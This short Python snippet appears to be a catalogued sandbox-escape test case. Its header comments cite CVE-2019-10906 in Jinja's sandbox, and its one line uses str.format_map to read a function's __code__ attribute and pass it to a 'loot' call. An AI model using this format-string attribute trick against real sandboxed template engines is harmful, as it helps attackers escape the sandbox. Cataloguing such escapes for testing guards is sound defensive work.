# aim: use the mapping form
# mechanism: str.format_map
# source: CVE-2019-10906 (Jinja's sandbox)
# language: guard
# reason: str.format_map reads the attributes its template names
# jail: process
# plain: loot

import textwrap

loot("{it.__code__}".format_map({"it": textwrap.dedent}))
